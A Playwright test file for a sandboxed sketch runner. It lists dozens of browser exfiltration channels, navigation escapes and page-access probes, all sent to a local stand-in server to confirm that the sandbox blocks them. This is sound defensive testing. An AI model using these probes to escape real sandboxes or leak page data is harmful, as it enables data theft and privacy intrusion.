/**
 * What generated code can reach from inside its frame: nothing of the page and nobody outside. Every probe is a sketch, run as a person runs
 * one, and a server on another origin logs whatever arrives. A page without a sandbox first shows that the probes work.
 */
import { createSocket, type Socket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test as base, type Page } from '@playwright/test';
import { chromiumFlags, findChromium } from '../cli/chromium.js';
import { SANDBOX_POLICY, headers } from '../cli/headers.js';
import { serveFolder } from '../cli/server.js';

/** A host to leak data to: answers everything and counts requests, bytes and datagrams. */
class Foreign {
  readonly requests: string[] = [];
  bytes = 0;
  datagrams = 0;
  #server: Server | null = null;
  #socket: Socket | null = null;

  async start(): Promise<void> {
    const server = createServer((request, response) => {
      this.requests.push(request.url ?? '');
      const isPage = request.url?.startsWith('/page') ?? false;
      response.writeHead(200, {
        'Content-Type': isPage ? 'text/html' : 'text/plain',
        'Access-Control-Allow-Origin': '*',
      });
      response.end(isPage ? '<!doctype html><title>Open</title><body></body>' : '');
    });
    server.on('connection', (socket) => socket.on('data', ({ length }) => (this.bytes += length)));
    server.on('upgrade', (request, socket) => {
      this.requests.push(request.url ?? '');
      socket.destroy();
    });
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
    const socket = createSocket('udp4', () => (this.datagrams += 1));
    await new Promise<void>((bound) => socket.bind(this.portOf(server), '127.0.0.1', bound));
    [this.#server, this.#socket] = [server, socket];
  }

  get port(): number {
    return this.portOf(this.#server!);
  }

  get url(): string {
    return `http://127.0.0.1:${this.port}`;
  }

  stop(): void {
    this.#server?.closeAllConnections();
    this.#server?.close();
    this.#socket?.close();
  }

  /** The names of the channels that something arrived on. */
  arrived(): string[] {
    return [...new Set(this.requests.flatMap((url) => /[?/]by=(\w+)/.exec(url)?.[1] ?? []))].sort();
  }

  private portOf(server: Server): number {
    return (server.address() as AddressInfo).port;
  }
}

const test = base.extend<{ foreign: Foreign }>({
  // eslint-disable-next-line no-empty-pattern -- Playwright wants a pattern, and it needs no fixture
  foreign: async ({}, use) => {
    const foreign = new Foreign();
    await foreign.start();
    await use(foreign);
    foreign.stop();
  },
});

// A camera and a microphone without a prompt: only the frame's lack of permission refuses them.
test.use({
  launchOptions: {
    executablePath: findChromium(),
    args: [...chromiumFlags(), '--use-fake-device-for-media-stream', '--use-fake-ui-for-media-stream'],
  },
});

/** Ways out, as bodies of async functions that know `to(name)`, an address on the foreign host. */
const CHANNELS: Record<string, string> = {
  fetch: `await fetch(to('fetch'), { mode: 'no-cors' })`,
  keepalive: `await fetch(to('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })`,
  xhr: `const x = new XMLHttpRequest(); x.open('GET', to('xhr')); x.send(); await wait(300)`,
  websocket: `new WebSocket(to('websocket').replace('http', 'ws')); await wait(300)`,
  eventsource: `new EventSource(to('eventsource')); await wait(300)`,
  beacon: `navigator.sendBeacon(to('beacon'), 'x'); await wait(300)`,
  image: `new Image().src = to('image'); await wait(300)`,
  svgimage: `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + to('svgimage') + '" /></svg>'); await wait(300)`,
  audio: `const a = new Audio(to('audio')); a.load(); await wait(300)`,
  video: `const v = document.createElement('video'); v.poster = to('video'); document.body.append(v); await wait(300)`,
  background: `document.body.style.backgroundImage = 'url(' + to('background') + ')'; await wait(300)`,
  stylesheet: `add('link', { rel: 'stylesheet', href: to('stylesheet') }); await wait(300)`,
  cssimport: `add('style', { textContent: '@import url(' + to('cssimport') + ')' }); await wait(300)`,
  font: `const f = new FontFace('x', 'url(' + to('font') + ')'); await f.load()`,
  script: `add('script', { src: to('script') }); await wait(300)`,
  module: `await import(to('module'))`,
  worker: `new Worker(to('worker')); await wait(300)`,
  blobworker: `new Worker(URL.createObjectURL(new Blob(['fetch("' + to('blobworker') + '", { mode: "no-cors" }); importScripts("' + to('blobworker') + '")']))); await wait(500)`,
  worklet: `await new AudioContext().audioWorklet.addModule(to('worklet'))`,
  frame: `add('iframe', { src: to('frame') }); await wait(300)`,
  srcdoc: `add('iframe', { srcdoc: '<img src="' + to('srcdoc') + '"><script>fetch("' + to('srcdoc') + '")<' + '/script>' }); await wait(500)`,
  blobframe: `add('iframe', { src: URL.createObjectURL(new Blob(['<img src="' + to('blobframe') + '">'], { type: 'text/html' })) }); await wait(500)`,
  object: `add('object', { data: to('object') }); await wait(300)`,
  embed: `add('embed', { src: to('embed') }); await wait(300)`,
  form: `const f = add('form', { action: to('form'), method: 'post', target: 'x' }); add('iframe', { name: 'x' }); f.submit(); await wait(300)`,
  prefetch: `add('link', { rel: 'prefetch', href: to('prefetch') }); await wait(300)`,
  preload: `add('link', { rel: 'preload', as: 'fetch', href: to('preload') }); await wait(300)`,
  modulepreload: `add('link', { rel: 'modulepreload', href: to('modulepreload') }); await wait(300)`,
  manifest: `add('link', { rel: 'manifest', href: to('manifest') }); await wait(300)`,
  icon: `add('link', { rel: 'icon', href: to('icon') }); await wait(300)`,
  speculation: `add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [to('speculation')] }] }) }); await wait(500)`,
  popup: `window.open(to('popup')); await wait(300)`,
  later: `fetchLater(to('later'), { activateAfter: 0 }); await wait(300)`,
  transport: `const t = new WebTransport(to('transport').replace('http:', 'https:')); await t.ready`,
};

/** They navigate the document away, so each needs a run of its own. */
const DEPARTURES: Record<string, string> = {
  navigation: `location.href = to('navigation')`,
  replace: `location.replace(to('replace'))`,
  refresh: `add('meta', { httpEquiv: 'refresh', content: '0;url=' + to('refresh') })`,
  link: `add('a', { href: to('link') }).click()`,
  self: `window.open(to('self'), '_self')`,
  // Across origins it is an ordinary link.
  download: `add('a', { href: to('download'), download: 'x' }).click()`,
  // The stage's own address, which a sketch's frame cannot navigate to either.
  ping: `add('a', { href: '#x', ping: to('ping') }).click()`,
};

/** Things that belong to the page, as expressions that are true if they were reached. */
const ACCESS: Record<string, string> = {
  'local storage': `localStorage.length >= 0`,
  'session storage': `sessionStorage.length >= 0`,
  'a database': `await new Promise((yes, no) => { const o = indexedDB.open('x'); o.onsuccess = () => yes(true); o.onerror = no; })`,
  caches: `(await caches.keys()).length >= 0`,
  files: `Boolean(await navigator.storage.getDirectory())`,
  cookies: `(document.cookie = 'a=1', document.cookie.includes('a=1'))`,
  'the document of its parent': `Boolean(parent.document)`,
  'the document of the page': `Boolean(top.document)`,
  'the address of the page': `Boolean(top.location.href)`,
  'the variables of the page': `Boolean(top.darkroom)`,
  'its own element': `Boolean(frameElement.src ?? true)`,
  'navigating the page': `(top.location = 'about:blank', await wait(300), true)`,
  'navigating its parent': `(parent.location = 'about:blank', await wait(300), true)`,
  'a popup': `Boolean(window.open('about:blank'))`,
  'a dialog': `confirm('x')`,
  'a service worker': `Boolean(await navigator.serviceWorker.register('x.js'))`,
  'a shared worker': `Boolean(new SharedWorker(URL.createObjectURL(new Blob(['']))))`,
  locks: `await navigator.locks.request('darkroom:gpu', { ifAvailable: true }, () => true)`,
  'the clipboard': `(await navigator.clipboard.readText()) !== undefined`,
  'writing the clipboard': `(await navigator.clipboard.writeText('x'), true)`,
  'a camera': `Boolean(await navigator.mediaDevices.getUserMedia({ video: true }))`,
  'a microphone': `Boolean(await navigator.mediaDevices.getUserMedia({ audio: true }))`,
  'the screen': `Boolean(await navigator.mediaDevices.getDisplayMedia())`,
  'the place': `await new Promise((yes, no) => navigator.geolocation.getCurrentPosition(() => yes(true), no))`,
  notifications: `(await Notification.requestPermission()) === 'granted'`,
  'a file picker': `Boolean(await showOpenFilePicker())`,
  'the whole screen': `(await document.body.requestFullscreen(), true)`,
  'storage by asking': `(await document.requestStorageAccess(), document.cookie !== undefined)`,
  WebRTC: `Boolean(new RTCPeerConnection())`,
  'WebRTC by its old name': `Boolean(new webkitRTCPeerConnection())`,
  'WebRTC of a frame that it makes': `Boolean(new (add('iframe', {}).contentWindow.RTCPeerConnection)())`,
  'WebRTC of a frame that runs by itself': `await new Promise((yes, no) => {
      addEventListener('message', ({ data }) => data === 'reached' && yes(true));
      add('iframe', { srcdoc: '<script>new RTCPeerConnection(); parent.postMessage("reached", "*")<' + '/script>' });
      setTimeout(no, 1000, new Error('nothing came'));
    })`,
};

const PRELUDE = (url: string) => `
  const to = (name) => '${url}/x?by=' + name;
  const wait = (ms) => new Promise((done) => setTimeout(done, ms));
  const add = (tag, values) => { const one = Object.assign(document.createElement(tag), values); (document.body ?? document.head).append(one); return one; };
`;

/** A sketch that tries everything at once and logs the outcome. */
function probing(url: string, probes: Record<string, string>, form: (body: string) => string): string {
  const attempts = Object.entries(probes).map(
    ([name, body]) => `[${JSON.stringify(name)}, async () => { ${form(body)} }],`,
  );
  return `${PRELUDE(url)}
    void (async () => {
      const tried = [${attempts.join('\n')}];
      for (const [name, attempt] of tried) {
        const outcome = await Promise.race([attempt().then((value) => value === true ? 'REACHED' : 'done', (error) => 'refused, ' + error.name), wait(2000).then(() => 'no answer')]);
        console.log(name + ': ' + outcome);
      }
      console.log('all tried');
    })();`;
}

async function runSketch(page: Page, source: string, language: 'p5' | 'tonejs' = 'p5'): Promise<void> {
  await page.goto('/#sketches');
  await page.evaluate((kept) => localStorage.setItem('darkroom.sketch', JSON.stringify(kept)), {
    title: 'probe',
    language,
    source,
  });
  await page.reload();
  await page.getByRole('button', { name: 'Run', exact: true }).click();
}

/** Each probe's outcome is a console line. */
const said = (page: Page) => page.getByLabel('Lines of the console');

test('the probes reach a foreign host from a page without a sandbox', async ({ page, foreign }) => {
  await page.goto(`${foreign.url}/page`);
  await page.addScriptTag({ content: probing(`http://localhost:${foreign.port}`, CHANNELS, (body) => body) });
  // The others need HTTPS or a click, or are up to the browser.
  await expect.poll(() => foreign.arrived().length, { timeout: 60_000 }).toBeGreaterThanOrEqual(24);
});

test(`nothing leaves the frame of a sketch, by ${Object.keys(CHANNELS).length} channels`, async ({ page, foreign }) => {
  await runSketch(
    page,
    probing(foreign.url, CHANNELS, (body) => body),
  );
  await expect(said(page)).toContainText('all tried', { timeout: 120_000 });
  const outcomes = await said(page).getByRole('listitem').allInnerTexts();
  expect(outcomes.filter((line) => /^\w+: (done|refused|no answer)/.test(line))).toHaveLength(
    Object.keys(CHANNELS).length,
  );
  expect(foreign.requests).toEqual([]);
  expect(foreign.bytes).toBe(0);
  expect(foreign.datagrams).toBe(0);
});

for (const [name, body] of Object.entries(DEPARTURES)) {
  test(`a sketch does not leave by ${name}`, async ({ page, foreign }) => {
    await runSketch(page, `${PRELUDE(foreign.url)}\nsetTimeout(() => console.log('still here'), 1500);\n${body};`);
    // A frame whose navigation is refused shows nothing and is removed.
    await expect(page.locator('.seen')).toContainText(/still here|did not answer/, { timeout: 120_000 });
    // The browser may open a connection before checking the policy; nothing is sent over it.
    expect(foreign.requests).toEqual([]);
    expect(foreign.bytes).toBe(0);
    expect(new URL(page.url()).hash).toBe('#sketches');
  });
}

test(`nothing of the page is reached from the frame of a sketch, in ${Object.keys(ACCESS).length} ways`, async ({
  page,
}) => {
  await page.goto('/');
  await page.evaluate(() => localStorage.setItem('secret', 'x'));
  await runSketch(
    page,
    probing('http://127.0.0.1:9', ACCESS, (body) => `return Boolean(${body});`),
  );
  await expect(said(page)).toContainText('all tried', { timeout: 120_000 });
  const outcomes = await said(page).getByRole('listitem').allInnerTexts();
  expect(outcomes.filter((line) => line.includes('REACHED'))).toEqual([]);
  expect(outcomes.filter((line) => /: (refused|done|no answer)/.test(line))).toHaveLength(Object.keys(ACCESS).length);
});

test('the page takes nothing from the frame but messages of the port that pass their schema', async ({ page }) => {
  // A sketch that gets hold of our port, by replacing what the frame's script uses.
  await runSketch(
    page,
    `const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data').get;
    Object.defineProperty(MessageEvent.prototype, 'data', { get() {
      this.target?.postMessage?.({ type: 'console', entries: [{ level: 'log', text: {} }], dropped: 0 });
      return data.call(this);
    } });`,
  );
  await page.getByRole('button', { name: 'Take a picture' }).click();
  await expect(page.locator('.problem')).toContainText('disturbed the sandbox');
  await expect(page.locator('.stage iframe')).toHaveCount(0);
});

test('the stage has its policy, and no other document has', async ({ request }) => {
  const policy = async (path: string) => (await request.get(path)).headers()['content-security-policy'];
  expect(await policy('/sandbox/stage.html')).toBe(`${SANDBOX_POLICY}; frame-ancestors 'self'`);
  expect(await (await request.get('/sandbox/stage.html')).text()).toContain(SANDBOX_POLICY);
  expect(await policy('/')).toBe(headers({ development: false })['Content-Security-Policy']);
  expect(await policy('/')).not.toMatch(/'unsafe-eval'|script-src[^;]*'unsafe-inline'/);
  for (const name of ['p5.LICENSE.txt', 'Tone.LICENSE.txt', 'README.txt']) {
    expect((await request.get(`/sandbox/${name}`)).status()).toBe(200);
  }
  for (const [name, file] of [
    ['p5.min.js', 'p5/lib/p5.min.js'],
    ['Tone.js', 'tone/build/Tone.js'],
  ]) {
    expect(
      (await (await request.get(`/sandbox/${name}`)).body()).equals(readFileSync(`node_modules/${file}`)),
      name,
    ).toBe(true);
  }
});

test.describe('without a network', () => {
  test.use({ serviceWorkers: 'allow' });

  test('sketches run after one visit', async ({ page, context }) => {
    const { url, close } = await serveFolder('dist');
    await page.goto(`${url}/?backend=wasm#sketches`);
    await page.evaluate(async () => {
      const { serviceWorker } = navigator;
      await serviceWorker.ready;
      if (!serviceWorker.controller) {
        await new Promise((claimed) => serviceWorker.addEventListener('controllerchange', claimed, { once: true }));
      }
    });
    await close();
    await context.setOffline(true);
    await page.reload();
    await page.getByRole('button', { name: 'Wind chimes' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'The sketch runs.' })).toBeAttached();
    await page.getByRole('button', { name: 'Take a picture' }).click();
    await expect(page.getByRole('region', { name: 'Taken' }).getByRole('img')).toBeVisible();
  });

  test("a host that sends the page's policy with everything is overruled by the service worker", async ({ page }) => {
    const source = await serveFolder('dist');
    const host = createServer((incoming, response) => {
      // A kept connection may be closed at the moment it is used again.
      void fetch(source.url + (incoming.url ?? ''), { headers: { connection: 'close' } }).then(async (answer) => {
        const type = answer.headers.get('content-type') ?? '';
        response.writeHead(answer.status, { ...headers({ development: false }), 'Content-Type': type });
        response.end(Buffer.from(await answer.arrayBuffer()));
      });
    });
    await new Promise<void>((listening) => host.listen(0, '127.0.0.1', listening));
    await page.goto(`http://127.0.0.1:${(host.address() as AddressInfo).port}/?backend=wasm#sketches`);
    await page.evaluate(async () => {
      const { serviceWorker } = navigator;
      await serviceWorker.ready;
      if (!serviceWorker.controller) {
        await new Promise((claimed) => serviceWorker.addEventListener('controllerchange', claimed, { once: true }));
      }
    });
    await page.getByRole('button', { name: 'Tide' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'The sketch runs.' })).toBeAttached();
    host.closeAllConnections();
    host.close();
    await source.close();
  });
});
